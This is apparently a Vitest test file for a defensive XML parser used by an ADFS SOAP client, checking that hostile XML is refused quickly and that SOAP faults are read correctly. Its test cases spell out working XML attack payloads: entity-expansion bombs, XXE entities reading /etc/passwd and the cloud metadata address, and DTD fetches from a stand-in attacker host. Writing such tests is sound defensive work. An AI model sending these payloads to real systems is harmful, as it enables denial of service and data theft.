import { describe, expect, it, vi } from 'vitest';
import { readFault } from '../../../../lib/clients/adfs/read-fault.ts';
import { readXml, type XmlElement } from '../../../../lib/clients/adfs/soap-xml.ts';
import {
  childrenOf,
  descendantsOf,
  onlyChild,
  textOf,
} from '../../../../lib/clients/adfs/xml-select.ts';
import type { XmlRefusal } from '../../../../lib/domain/ifd-failure.ts';
import { REAL_RSTR, sample } from './sample.ts';

// The machine may be busy with other tests; what is measured measures itself.
vi.setConfig({ testTimeout: 30_000 });

/** What a text is refused for, and how long that takes: again where it was long, since others share the machine. */
function refusalOf(text: string): { why: XmlRefusal | 'read'; tookMs: number } {
  let why: XmlRefusal | 'read' = 'read';
  let tookMs = Number.POSITIVE_INFINITY;
  for (let turn = 0; turn < 3 && tookMs >= 50; turn++) {
    const startMs = performance.now();
    const read = readXml(text);
    tookMs = Math.min(tookMs, performance.now() - startMs);
    why = read.ok ? 'read' : read.failure;
  }
  return { why, tookMs };
}
function rootOf(text: string): XmlElement {
  const read = readXml(text);
  if (!read.ok) throw new Error(read.failure);
  return read.value.root;
}
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at || 'ol'};`.repeat(10)}">`).join('')}]><a>&l9;</a>`;
const QUADRATIC = `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(10_000)}</a>`;
const utf16 = (text: string) =>
  new TextDecoder().decode(Uint8Array.from([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]));

describe('hostile XML is refused by the rule it breaks, each in under 50 ms', () => {
  it.each<[string, string, XmlRefusal]>([
    ['a billion laughs', LAUGHS, 'doctype'],
    ['a quadratic blow-up', QUADRATIC, 'doctype'],
    [
      'a file as an entity',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      'doctype',
    ],
    [
      'the metadata of a data centre as an entity',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>',
      'doctype',
    ],
    ['a DTD from elsewhere', '<!DOCTYPE a SYSTEM "https://evil.test/a.dtd"><a/>', 'doctype'],
    ['a public DTD', '<!DOCTYPE a PUBLIC "x" "https://evil.test/a.dtd"><a/>', 'doctype'],
    [
      'a parameter entity',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.test/">%p;]><a/>',
      'doctype',
    ],
    ['a doctype in small letters', '<!doctype a [<!ENTITY x "y">]><a>&x;</a>', 'doctype'],
    ['a doctype behind a comment', '<!-- hello --><!DOCTYPE a []><a/>', 'doctype'],
    ['a doctype behind a byte order mark', '\ufeff<!DOCTYPE a []><a/>', 'doctype'],
    ['a doctype behind blanks', '  \n\t<!DOCTYPE a []><a/>', 'doctype'],
    ['an entity declared in the middle', '<a><!ENTITY x "y">&x;</a>', 'doctype'],
    ['a conditional section', '<a><![INCLUDE[ x ]]></a>', 'doctype'],
    ['a doctype in UTF-16', utf16('<!DOCTYPE a []><a/>'), 'encoding'],
    ['UTF-16 without a mark', Buffer.from('<a/>', 'utf16le').toString('latin1'), 'encoding'],
    ['a declared UTF-16', '<?xml version="1.0" encoding="UTF-16"?><a/>', 'encoding'],
    ['a UTF-16 declared with blanks', '<?xml version="1.0" encoding = "UTF-16"?><a/>', 'encoding'],
    ['a declared UTF-7', '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-!DOCTYPE</a>', 'encoding'],
    ['a declared Latin-1', "<?xml version='1.0' encoding='ISO-8859-1'?><a/>", 'encoding'],
    ['UTF-7 that is not declared', '+ADw-!DOCTYPE a+AD4-', 'not-xml'],
    [
      'bytes that are no UTF-8',
      new TextDecoder().decode(Uint8Array.from([60, 97, 62, 0xc3, 0x28])),
      'encoding',
    ],
    [
      'a style sheet',
      '<?xml version="1.0"?><?xml-stylesheet href="https://evil.test"?><a/>',
      'instruction',
    ],
    ['an instruction inside', '<a><?php x?></a>', 'instruction'],
    ['a second prolog', '<a><?xml version="1.0"?></a>', 'instruction'],
    ['a flood of references', `<a>${'&#65;'.repeat(200_000)}</a>`, 'too-many-nodes'],
    ['a flood of references beyond the size', `<a>${'&#65;'.repeat(1_000_000)}</a>`, 'too-large'],
    ['a NUL by reference', '<a>&#0;</a>', 'not-well-formed'],
    ['half a pair by reference', '<a>&#xD800;</a>', 'not-well-formed'],
    ['a character beyond Unicode', '<a>&#x110000;</a>', 'not-well-formed'],
    ['a number without end', '<a>&#99999999999;</a>', 'not-well-formed'],
    ['a control by reference', '<a>&#x1;</a>', 'not-well-formed'],
    ['a control as it is', '<a>\u0001</a>', 'not-well-formed'],
    ['an entity of HTML', '<a>&nbsp;</a>', 'not-well-formed'],
    [
      'an entity named as a member of objects',
      '<a>&constructor;&__proto__;</a>',
      'not-well-formed',
    ],
    ['a bare ampersand', '<a>&</a>', 'not-well-formed'],
    ['too deep a nest', `${'<a>'.repeat(100_000)}`, 'too-deep'],
    ['too deep a nest that is closed', `${'<a>'.repeat(65)}${'</a>'.repeat(65)}`, 'too-deep'],
    [
      'too many attributes',
      `<a ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(' ')}/>`,
      'too-many-attributes',
    ],
    ['too many elements', `<a>${'<b/>'.repeat(100_000)}</a>`, 'too-many-nodes'],
    ['too many comments', `<a>${'<!---->'.repeat(100_000)}</a>`, 'too-many-nodes'],
    [
      'too deep a nest that looks empty',
      `${'<a b="/>">'.repeat(65)}${'</a>'.repeat(65)}`,
      'too-deep',
    ],
    [
      'too deep a nest that looks empty, in other quotes',
      `${"<a b='/>'>".repeat(65)}${'</a>'.repeat(65)}`,
      'too-deep',
    ],
    ['a long name where it is closed', `<a></${'a'.repeat(257)}>`, 'too-large'],
    ['the same attribute twice', '<a b="1" b="2"/>', 'not-well-formed'],
    [
      'the same attribute by two prefixes',
      '<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>',
      'not-well-formed',
    ],
    ['ten megabytes of text', `<a>${'x'.repeat(10_000_000)}</a>`, 'too-large'],
    ['a name of a megabyte', `<${'a'.repeat(1_000_000)}/>`, 'too-large'],
    ['an attribute of a megabyte', `<a b="${'x'.repeat(1_000_000)}"/>`, 'too-large'],
    ['an open comment', '<a><!-- unclosed', 'not-well-formed'],
    ['an open CDATA section', '<a><![CDATA[ unclosed', 'not-well-formed'],
    ['two dashes in a comment', '<a><!-- a -- b --></a>', 'not-well-formed'],
    ['an open tag', '<a', 'not-well-formed'],
    ['an open quote', '<a b="', 'not-well-formed'],
    ['a tag that is not closed', '<a><b></a>', 'not-well-formed'],
    ['two roots', '<a/><b/>', 'not-well-formed'],
    ['a prefix that is bound to nothing', '<p:a/>', 'not-well-formed'],
    ['an attribute’s prefix that is bound to nothing', '<a p:b=""/>', 'not-well-formed'],
    ['a prefix that is unbound', '<a xmlns:p=""/>', 'not-well-formed'],
    ['the prefix of declarations, declared', '<a xmlns:xmlns="u"/>', 'not-well-formed'],
    ['a name with an empty prefix', '<:a xmlns="u"/>', 'not-well-formed'],
    ['a name that is only a prefix', '<p: xmlns:p="u"/>', 'not-well-formed'],
    [
      'the namespace of declarations, declared',
      '<a xmlns:p="http://www.w3.org/2000/xmlns/"/>',
      'not-well-formed',
    ],
    ['a name with two colons', '<p:a:b xmlns:p="u"/>', 'not-well-formed'],
    ['a sign-in page', '<!DOCTYPE html><html><head><meta name="x"/></head></html>', 'not-xml'],
    [
      'a sign-in page without a doctype',
      ' <html xmlns="http://www.w3.org/1999/xhtml"/>',
      'not-xml',
    ],
    ['a sign-in page with many blanks', '<!DOCTYPE   html><html></html>', 'not-xml'],
    ['a sign-in page behind a prolog', '<?xml version="1.0"?><html></html>', 'not-xml'],
    ['a text', 'Service Unavailable', 'not-xml'],
    ['a text before it', 'Error: <a/>', 'not-xml'],
    ['a text behind a prolog', '<?xml version="1.0"?>Error: <a/>', 'not-xml'],
    ['JSON', '{"error":"invalid_client"}', 'not-xml'],
    ['nothing', '', 'not-xml'],
    ['blanks', ' '.repeat(900_000), 'not-xml'],
  ])('%s', (_what, text, why) => {
    const { why: said, tookMs } = refusalOf(text);
    expect(said).toBe(why);
    expect(tookMs).toBeLessThan(50);
  });

  it.each<[string, string]>([
    ['a megabyte of brackets', '<'.repeat(1_000_000)],
    ['a megabyte of tags that end nowhere', '<a '.repeat(300_000)],
    ['a megabyte of quotes', `<a ${'"'.repeat(1_000_000)}`],
    ['a prolog without an end', `<?xml ${' '.repeat(1_000_000)}`],
    ['a megabyte of pairs', `<a>${'😀'.repeat(250_000)}`],
    ['a megabyte of closing tags', '</a>'.repeat(250_000)],
    // A parser that nobody stands before takes some 200 ms for these, on any machine more than 50.
    ['a megabyte of elements', `<a>${'<b/>'.repeat(250_000)}`],
    [
      'a megabyte of attributes',
      `<a ${Array.from({ length: 90_000 }, (_, at) => `a${at}=""`).join(' ')}`,
    ],
  ])('%s costs under 50 ms', (_what, text) => {
    const { why, tookMs } = refusalOf(text);
    expect(why).not.toBe('read');
    expect(tookMs).toBeLessThan(50);
  });
});

describe('what a genuine document keeps is read up to its bound, and one more is refused', () => {
  const attributes = (count: number) =>
    Array.from({ length: count }, (_, at) => `a${at}=""`).join(' ');
  it.each<[string, number, (count: number) => string, XmlRefusal]>([
    ['levels', 64, (count) => `${'<a>'.repeat(count)}${'</a>'.repeat(count)}`, 'too-deep'],
    ['tags', 20_000, (count) => `<a>${'<b/>'.repeat(count - 2)}</a>`, 'too-many-nodes'],
    ['references', 20_000, (count) => `<a>${'&#65;'.repeat(count)}</a>`, 'too-many-nodes'],
    ['attributes', 64, (count) => `<a ${attributes(count)}/>`, 'too-many-attributes'],
    ['characters of a name', 256, (count) => `<${'a'.repeat(count)}/>`, 'too-large'],
    ['characters of a tag', 32_769, (count) => `<a b="${'x'.repeat(count - 10)}" />`, 'too-large'],
    ['characters', 1_048_576, (count) => `<a>${'x'.repeat(count - 7)}</a>`, 'too-large'],
  ])('%s: %i', (_what, most, write, why) => {
    expect(refusalOf(write(most)).why).toBe('read');
    expect(refusalOf(write(most + 1)).why).toBe(why);
  });

  it('siblings are no levels, however they are closed', () => {
    expect(refusalOf(`<a>${'<b></b>'.repeat(100)}${'<c/>'.repeat(100)}<d/></a>`).why).toBe('read');
  });

  it.each<[string, string]>([
    ['a declared UTF-8', '<?xml version="1.0" encoding="UTF-8"?><a/>'],
    ['a UTF-8 in small letters', "<?xml version='1.0' encoding='utf-8'?><a/>"],
    ['an element named as that of a web page, inside', '<a><html/></a>'],
    ['signs that are no attributes, in quotes', `<a b="${'='.repeat(100)}"/>`],
    ['a comment that ends like an instruction', '<a><!--<?--></a>'],
    ['a text that ends like a comment, before one', '<a>--><!-- x --></a>'],
    ['a CDATA section that ends like an instruction', '<a><![CDATA[<?]]></a>'],
  ])('%s is read', (_what, text) => {
    expect(refusalOf(text).why).toBe('read');
  });

  it('a byte order mark is no part of what is read', () => {
    const read = readXml('\ufeff<a/>');
    expect(read.ok && [read.value.source, read.value.root.start]).toEqual(['<a/>', 0]);
  });

  it('another bound may be given', () => {
    expect(readXml('<a></a>', 7).ok).toBe(true);
    expect(readXml('<a></a>', 6)).toEqual({ ok: false, failure: 'too-large' });
  });
});

describe('what is read', () => {
  it('a name counts by its namespace, whatever its prefix', () => {
    const [one, two, three] = [
      '<p:a xmlns:p="urn:x"><p:b>1</p:b></p:a>',
      '<q:a xmlns:q="urn:x" xmlns:p="urn:y"><q:b>1</q:b><p:b>2</p:b></q:a>',
      '<a xmlns="urn:x"><b>1</b><b xmlns="">2</b></a>',
    ].map(rootOf);
    for (const root of [one, two, three]) {
      expect(root?.ns).toBe('urn:x');
      expect(textOf(onlyChild(root, 'urn:x', 'b'))).toBe('1');
    }
    expect(onlyChild(rootOf('<a><b/></a>'), 'urn:x', 'b')).toBeUndefined();
  });

  it('an attribute without a prefix has no namespace', () => {
    const { attributes } = rootOf('<a xmlns="urn:x" xmlns:p="urn:y" b="1" p:b="2"/>');
    expect([...attributes]).toEqual([
      ['b', '1'],
      ['{urn:y}b', '2'],
    ]);
  });

  it('an attribute binds no prefix unless it is a declaration', () => {
    const { ns, scope } = rootOf('<a short="urn:x" longer-one="urn:y"/>');
    expect([ns, ...scope.keys()]).toEqual(['', 'xml']);
  });

  it('the prefix xml is bound without a declaration', () => {
    expect([...rootOf('<a xml:lang="en"/>').attributes.keys()]).toEqual([
      '{http://www.w3.org/XML/1998/namespace}lang',
    ]);
  });

  it.each(['__proto__', 'constructor', 'toString'])('%s is a name like any other', (name) => {
    const root = rootOf(`<${name} ${name}="1"><${name}>2</${name}></${name}>`);
    expect(root.name).toBe(name);
    expect(root.attributes.get(name)).toBe('1');
    expect(textOf(onlyChild(root, '', name))).toBe('2');
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('1');
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
  });

  it('a comment inside a text joins it, and cuts nothing off', () => {
    expect(rootOf('<a>admin<!-- x -->@evil.test</a>').text).toBe('admin@evil.test');
    expect(rootOf('<a>ad<![CDATA[min<b>]]>@evil.test</a>').text).toBe('admin<b>@evil.test');
  });

  it('of two children of one name neither is the only one', () => {
    const root = rootOf('<a><b>1</b><b>2</b></a>');
    expect(onlyChild(root, '', 'b')).toBeUndefined();
    expect(childrenOf(root, '', 'b')).toHaveLength(2);
  });

  it('a text with elements in it is no text', () => {
    expect(textOf(rootOf('<a>x<b/></a>'))).toBeUndefined();
  });

  it('an element can be cut out of its text to the byte, behind pairs and line ends of any kind', () => {
    const inner = '<x:b xmlns:x="u" c=\'1\'>\r\n😀<!-- c -->&#13;<![CDATA[<]]>\r</x:b>';
    const source = `<a>é😀\r\n${inner}\r\n</a>`;
    const read = readXml(source);
    if (!read.ok) throw new Error(read.failure);
    const [b] = descendantsOf(read.value.root, 'u', 'b');
    expect(read.value.source.slice(b?.start, b?.end)).toBe(inner);
  });

  it.each([
    'keystoneauth_ADFS_RSTR_bearer.xml',
    'keystoneauth_ADFS_fault.xml',
    'adal_common.rstr.xml',
    'adal_RST.xml',
    'tinderbox_request_security_token_response_onpremise.xml',
  ])('the recorded %s is read', (name) => {
    expect(rootOf(sample(name)).name).toBe('Envelope');
  });

  it('the recorded policy that was cut short is refused', () => {
    expect(refusalOf(sample('crm_ifd_wsdl_policy_fragment.xml')).why).toBe('not-well-formed');
  });

  it('a genuine answer cut off anywhere is never read', () => {
    for (let at = 0; at < REAL_RSTR.length; at++)
      expect(readXml(REAL_RSTR.slice(0, at)).ok, `cut at ${at}`).toBe(false);
  });
});

describe('a SOAP fault', () => {
  it('is read with its names resolved, whatever their prefixes mean elsewhere', () => {
    const fault = readFault(rootOf(sample('keystoneauth_ADFS_fault.xml')));
    expect(fault?.codes).toEqual([
      { ns: 'http://www.w3.org/2003/05/soap-envelope', name: 'Sender' },
      {
        ns: 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd',
        name: 'FailedAuthentication',
      },
    ]);
    expect(fault?.reason).toBe(
      'At least one security token in the message could not be validated.',
    );
  });

  it('of the older SOAP is read too', () => {
    const fault = readFault(
      rootOf(
        '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><e:Fault><faultcode>e:Server</faultcode><faultstring>No.</faultstring></e:Fault></e:Body></e:Envelope>',
      ),
    );
    expect(fault).toEqual({
      codes: [{ ns: 'http://schemas.xmlsoap.org/soap/envelope/', name: 'Server' }],
      reason: 'No.',
    });
  });

  it('of the CRM tells its own number and message', () => {
    const fault = readFault(
      rootOf(
        `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><s:Fault><s:Code><s:Value>s:Sender</s:Value></s:Code><s:Reason><s:Text xml:lang="en-US">Generic</s:Text></s:Reason><s:Detail><OrganizationServiceFault xmlns="http://schemas.microsoft.com/xrm/2011/Contracts"><ErrorCode>-2147180284</ErrorCode><Message>Disabled</Message></OrganizationServiceFault></s:Detail></s:Fault></s:Body></s:Envelope>`,
      ),
    );
    expect(fault).toMatchObject({ errorCode: -2147180284, reason: 'Disabled' });
  });

  it('is not seen where there is none', () => {
    expect(readFault(rootOf(REAL_RSTR))).toBeUndefined();
    expect(readFault(rootOf('<Fault/>'))).toBeUndefined();
  });
});
